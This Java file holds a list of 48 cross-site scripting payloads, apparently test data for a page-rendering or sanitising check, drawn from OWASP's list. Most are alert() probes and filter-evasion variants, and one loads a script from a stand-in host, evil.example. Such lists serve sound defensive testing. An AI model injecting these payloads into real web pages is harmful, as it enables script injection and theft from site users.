package inzage.config.pages;

import java.util.List;

/** Texts that run as a script where somebody writes them into a page without care, after OWASP's list. */
final class Payloads {
    static final List<String> ALL = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<script>confirm(2)</script x>",
            "<scr<script>ipt>alert(3)</scr</script>ipt>",
            "\"><script>alert(4)</script>",
            "'><script>alert(5)</script>",
            "</title><script>alert(6)</script>",
            "</textarea><script>alert(7)</script>",
            "</script><script>alert(8)</script>",
            "--><script>alert(9)</script>",
            "]]><script>alert(10)</script>",
            "<img src=x onerror=alert(11)>",
            "<img src=\"x\" onerror=\"alert(12)\">",
            "<IMG SRC=javascript:alert(13)>",
            "<img/src=`x`onerror=alert(14)>",
            "<img src onerror=/\"/>alert(15)",
            "<svg onload=alert(16)>",
            "<svg><script>alert(17)</script></svg>",
            "<svg><animate onbegin=alert(18) attributeName=x dur=1s>",
            "<svg><a xlink:href=\"javascript:alert(19)\"><text>x</text></a></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(20)>",
            "<body onload=alert(21)>",
            "<iframe src=javascript:alert(22)></iframe>",
            "<iframe srcdoc='<script>alert(23)</script>'></iframe>",
            "<object data=javascript:alert(24)></object>",
            "<embed src=javascript:alert(25)>",
            "<a href=javascript:alert(26)>x</a>",
            "<a href=\"jav\tascript:alert(27)\">x</a>",
            "<a href=\"data:text/html,<script>alert(28)</script>\">x</a>",
            "<form action=javascript:alert(29)><input type=submit></form>",
            "<button formaction=javascript:alert(30)>x</button>",
            "<input autofocus onfocus=alert(31)>",
            "<select autofocus onfocus=alert(32)></select>",
            "<details open ontoggle=alert(33)>x</details>",
            "<video><source onerror=alert(34)></video>",
            "<audio src=x onerror=alert(35)>",
            "<marquee onstart=alert(36)>x</marquee>",
            "<div style=\"background:url(javascript:alert(37))\">x</div>",
            "<style>@import 'javascript:alert(38)';</style>",
            "<link rel=stylesheet href=javascript:alert(39)>",
            "<meta http-equiv=refresh content=\"0;url=javascript:alert(40)\">",
            "<base href=\"javascript:alert(41)//\">",
            "<template><script>alert(42)</script></template>",
            "{{constructor.constructor('alert(43)')()}}",
            "${alert(44)}",
            "javascript:alert(45)",
            "\u003cscript\u003ealert(46)\u003c/script\u003e",
            "&lt;script&gt;alert(47)&lt;/script&gt;");

    private Payloads() {}
}
